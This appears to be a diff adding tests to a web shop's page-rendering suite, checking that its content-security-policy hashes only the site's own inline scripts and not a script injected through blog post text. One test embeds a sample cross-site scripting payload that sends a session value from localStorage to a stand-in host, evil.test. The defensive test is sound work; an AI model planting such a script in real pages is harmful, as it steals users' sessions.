@@ -74,6 +74,51 @@ async function list({
   return answer;
 }
 
+/** A post whose text is as given: as if the sanitiser had let it pass. */
+async function article(content: string) {
+  const post = {
+    _id: '32t8mcm1hz97molv',
+    title: 'A post',
+    description: '',
+    author: '',
+    tags: [],
+    categories: [],
+    image: [],
+    featuredImage: null,
+    pictures: [],
+    content,
+    publishedAt: null,
+    updatedAt: '2026-10-05T10:30:00.000Z',
+    translations: {},
+  };
+  const answers: Record<string, unknown> = {
+    'GET /api/settings/public': shop,
+    'GET /api/blog/posts/{id}': post,
+    'GET /api/blog/posts/{id}/related': [],
+  };
+  const { answer } = await renderPage(
+    pages,
+    { path: '/blog-details/32t8mcm1hz97molv', search: '', lang: 'en', key: '' },
+    {
+      api: () => (async (key: string) => answers[key]) as unknown as Api,
+      publicUrl: () => 'https://shop.test',
+      cspSources: {},
+      dev: false,
+    },
+  );
+  expect(answer.status).toBe(200);
+  return answer;
+}
+
+/** The code of the inline scripts that run, as a browser finds them in the page. */
+const inlineScripts = (html: string): string[] =>
+  Array.from(
+    html.matchAll(
+      /<script(?![^>]*(?:\ssrc=|"application\/(?:ld\+)?json"))[^>]*>([\s\S]*?)<\/script>/g,
+    ),
+    ([, code = '']) => code,
+  );
+
 const htmlOf = async (given?: Parameters<typeof list>[0]) =>
   (await (await list(given)).body.plain()).toString();
 
@@ -112,7 +157,20 @@ it('tells the head of the first pictures', async () => {
 
 it('names every script of the page in its policy', async () => {
   const { headers, body } = await list();
-  const hashes = scriptHashes([(await body.plain()).toString()]);
+  const html = (await body.plain()).toString();
+  const hashes = scriptHashes(inlineScripts(html));
   expect(hashes.length).toBeGreaterThan(4);
   for (const hash of hashes) expect(headers['content-security-policy']).toContain(hash);
+  expect(html).not.toContain('nonce');
+});
+
+it('does not bless a script that reaches the page through a text', async () => {
+  const stolen = 'fetch("//evil.test/"+localStorage.session)';
+  const { headers, body } = await article(`<p>Words</p><script>${stolen}</script>`);
+  const html = (await body.plain()).toString();
+  expect(html).toContain(`<script>${stolen}</script>`);
+  const [hash = ''] = scriptHashes([stolen]);
+  expect(headers['content-security-policy']).not.toContain(hash);
+  const own = inlineScripts(html).filter((code) => code !== stolen);
+  for (const known of scriptHashes(own)) expect(headers['content-security-policy']).toContain(known);
 });
